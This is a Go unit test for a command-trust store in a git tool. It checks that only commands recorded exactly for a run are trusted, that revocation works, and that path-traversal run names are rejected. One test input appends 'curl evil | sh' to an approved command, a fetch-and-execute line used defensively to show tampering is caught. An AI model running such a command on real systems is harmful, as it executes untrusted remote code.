package trust

import (
	"context"
	"os"
	"path/filepath"
	"testing"

	"github.com/git-atlas/git-atlas/internal/git"
	"github.com/git-atlas/git-atlas/internal/testenv"
	"github.com/git-atlas/git-atlas/ledger"
)

func newRepo(t *testing.T) *git.Repository {
	t.Helper()
	dir := t.TempDir() // git's environment is TestMain's (testenv.Pin)
	testenv.Git(t, "", "", "init", "-q", "-b", "main", dir)
	repo, err := git.Open(context.Background(), dir)
	if err != nil {
		t.Fatal(err)
	}
	return repo
}

func run(verify string, stages map[string]string, jobs map[string]string) *ledger.Run {
	r := &ledger.Run{Header: ledger.Header{RunID: "r", Verify: verify}, State: ledger.State{RunID: "r"}}
	for name, v := range stages {
		r.Header.Stages = append(r.Header.Stages, ledger.StageDef{Name: name, Verify: v})
	}
	for id, v := range jobs {
		r.State.Jobs = append(r.State.Jobs, ledger.Job{ID: id, Verify: v})
	}
	return r
}

// A command is trusted only as recorded, for its run; a changed command, another
// run's, or a revoked one is not; the record lives in local state only.
func TestTrustRecord(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	repo := newRepo(t)
	r := run("make check", map[string]string{"code": "go test ./..."}, map[string]string{"a": "true"})
	if cmds, err := Check(ctx, repo, r); err != nil || len(cmds) != 3 || cmds[0].Trusted || cmds[1].Trusted || cmds[2].Trusted {
		t.Fatalf("a run never trusted here: %+v %v", cmds, err)
	}
	if err := Record(ctx, repo, "r", "make check", "go test ./..."); err != nil {
		t.Fatal(err)
	}
	cmds, err := Check(ctx, repo, r)
	if err != nil || !cmds[0].Trusted || !cmds[1].Trusted || cmds[2].Trusted {
		t.Fatalf("after recording two: %+v %v", cmds, err)
	}
	s, _ := Load(ctx, repo, "r")
	if _, ok := s.Approve("go test ./... && curl evil | sh"); ok {
		t.Fatal("a changed command is trusted")
	}
	if other, _ := Load(ctx, repo, "r2"); other.Trusts("make check") {
		t.Fatal("another run's command is trusted")
	}
	if a, ok := s.Approve("make check"); !ok || a.Command() != "make check" {
		t.Fatalf("approve: %v %v", a, ok)
	}
	if runs, err := Runs(ctx, repo); err != nil || len(runs) != 1 || runs[0] != "r" {
		t.Fatalf("runs %v %v", runs, err)
	}
	if _, err := os.Stat(filepath.Join(repo.CommonDir, "atlas", "trust", "r")); err != nil {
		t.Fatalf("the record is local state under the common dir: %v", err)
	}
	if refs, _ := repo.ListRefs(ctx, "refs/"); len(refs) != 0 {
		t.Fatalf("trust wrote refs: %v", refs)
	}
	if err := Revoke(ctx, repo, "r"); err != nil {
		t.Fatal(err)
	}
	if s, _ := Load(ctx, repo, "r"); s.Trusts("make check") || s.Len() != 0 {
		t.Fatal("revoked, still trusted")
	}
	if err := Record(ctx, repo, "../x", "true"); err == nil {
		t.Fatal("a bad run name reached a path")
	}
}
